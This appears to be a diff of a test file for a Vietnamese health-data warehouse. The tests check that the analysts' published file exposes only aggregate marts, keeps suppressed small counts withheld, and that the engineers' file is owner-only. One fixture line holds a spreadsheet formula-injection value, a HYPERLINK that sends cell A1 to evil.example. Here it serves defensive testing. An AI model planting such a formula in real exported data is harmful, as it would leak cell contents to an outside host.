@@ -3,10 +3,16 @@ gives back."""
 
 from __future__ import annotations
 
+import stat
 from datetime import date
 
+import duckdb
 import pytest
-from test_marts_lake import build_project, facility, make_lake, query
+from test_marts_lake import SQL_DIR, build_project, facility, make_lake, query
+
+from hanoi_health_lake.config import analysts_warehouse_path, warehouse_path
+from hanoi_health_lake.sqlmodels import load_models
+from hanoi_health_lake.sqlmodels.publish import analysts_path
 
 T = date(2026, 3, 10)
 HOSTILE_WARD = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'
@@ -85,3 +91,45 @@ def test_referral_flows_withhold_small_type_totals_and_what_gives_a_small_ward_c
     assert by_ward == {WARD[A]: (7, False), WARD[B]: (None, True), WARD[C]: (None, True)}
     published = sum(r for r, _ in by_ward.values() if r is not None)
     assert by_type[0]["referrals"] - published > 4
+
+
+def _tables(path) -> dict[str, list[str]]:
+    with duckdb.connect(str(path), read_only=True) as con:
+        rows = con.execute(
+            "select schema_name || '.' || table_name, column_name from duckdb_columns() "
+            "where database_name = current_database()"
+        ).fetchall()
+    found: dict[str, list[str]] = {}
+    for table, column in rows:
+        found.setdefault(table, []).append(column)
+    return found
+
+
+def test_analysts_get_a_file_of_marts_only_from_which_no_withheld_cell_comes_back(warehouse):
+    analysts = analysts_path(warehouse.path)
+    home = warehouse.path.parent
+    assert analysts_path(warehouse_path(home)) == analysts_warehouse_path(home)
+    published = _tables(analysts)
+    marts = {f"main.{m.name}" for m in load_models(SQL_DIR) if m.name.startswith("mart_")}
+    assert set(published) == marts
+    row_level = {"patient_key", "encounter_id", "referral_id", "record_no", "source_file"}
+    assert not {c for columns in published.values() for c in columns} & row_level
+    # The engineers' file holds what rebuilds ward C's withheld 2 referrals; owner-only on disk.
+    rebuild = (
+        "select count(*) from stg_referrals join lake.facilities using (facility_code) "
+        "where facilities.ward_code = ?"
+    )
+    assert query(warehouse, rebuild, [WARD[C]]) == [{"count_star()": 2}]
+    assert stat.S_IMODE(warehouse.path.stat().st_mode) == 0o600
+    # The analysts' file has no such table, and every row about ward C withholds its count.
+    with duckdb.connect(str(analysts), read_only=True) as con:
+        with pytest.raises(duckdb.CatalogException):
+            con.execute(rebuild, [WARD[C]])
+        about_c = con.execute(
+            "select referrals from mart_referral_flows_daily where from_ward_code = ?", [WARD[C]]
+        ).fetchall()
+        assert about_c == [(None,)]
+        # Withheld disease cells stay withheld; comments (descriptions) come along when set.
+        assert con.execute(
+            "select count(*) from mart_disease_counts_daily where suppressed and cases is not null"
+        ).fetchone() == (0,)
